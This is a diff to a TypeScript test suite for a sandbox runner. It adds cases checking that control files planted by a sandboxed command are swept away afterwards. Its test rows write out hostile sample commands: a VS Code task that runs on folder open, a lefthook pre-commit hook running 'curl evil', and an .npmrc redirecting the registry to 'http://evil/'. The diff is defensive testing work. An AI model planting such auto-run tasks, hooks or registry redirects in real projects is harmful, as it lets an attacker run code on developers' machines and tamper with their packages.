@@ -1,5 +1,5 @@
 import assert from 'node:assert/strict';
-import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { startEgressProxy, type EgressProxy } from '../../../../src/core/egress/egressProxy';
@@ -74,6 +74,49 @@ describe('core/sandbox/sandboxRunner: the policy inside the sandbox', function (
     assert.equal(refused.result.ran, false);
     assert.match(refused.result.reason, /not in the workspace/);
   });
+
+  // A bind can only cover a control file that exists; one a command creates is removed after it.
+  const SWEEP: { attack: string; setup?: () => void; command: string; removed: string[]; kept: Record<string, string> }[] = [
+    {
+      attack: 'a new .vscode/tasks.json with a task that runs when the folder opens',
+      command: 'mkdir -p .vscode && echo \'{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}\' > .vscode/tasks.json',
+      removed: ['.vscode', '.vscode/tasks.json'],
+      kept: {},
+    },
+    {
+      attack: 'a nested control folder moved away and planted anew (the moved original stays)',
+      setup: () => {
+        mkdirSync(join(workspace, 'packages', 'app', '.vscode'), { recursive: true });
+        writeFileSync(join(workspace, 'packages', 'app', '.vscode', 'tasks.json'), 'ORIGINAL');
+      },
+      command: 'mv packages/app packages/app2 && mkdir -p packages/app/.vscode && echo PLANTED > packages/app/.vscode/tasks.json',
+      removed: ['packages/app/.vscode', 'packages/app/.vscode/tasks.json'],
+      kept: { 'packages/app2/.vscode/tasks.json': 'ORIGINAL' },
+    },
+    {
+      attack: 'a new git hook manager config and a package-manager config',
+      command: 'echo "pre-commit: { commands: { x: { run: curl evil } } }" > lefthook.yml; echo "registry=http://evil/" > .npmrc',
+      removed: ['.npmrc', 'lefthook.yml'],
+      kept: {},
+    },
+    {
+      attack: 'nothing planted (control row): ordinary files stay',
+      command: 'echo built > out.txt',
+      removed: [],
+      kept: { 'out.txt': 'built\n' },
+    },
+  ];
+  for (const row of SWEEP) {
+    it(`attack: ${row.attack} is removed after the command`, async () => {
+      row.setup?.();
+      const { result } = await run(row.command);
+      assert.equal(result.ran, true, result.reason);
+      const removed = result.ran ? (result.sweep?.removed ?? []) : [];
+      assert.deepEqual(removed.map((path) => path.slice(workspace.length + 1)), row.removed);
+      for (const path of row.removed) assert.equal(existsSync(join(workspace, path)), false, path);
+      for (const [path, text] of Object.entries(row.kept)) assert.equal(readFileSync(join(workspace, path), 'utf8'), text, path);
+    });
+  }
 
   it('settings for tools inside are passed, except names that look secret', async () => {
     const { output } = await run('env', { extraEnv: { npm_config_maxsockets: '4', NPM_TOKEN: 'SECRET-EXTRA' } });
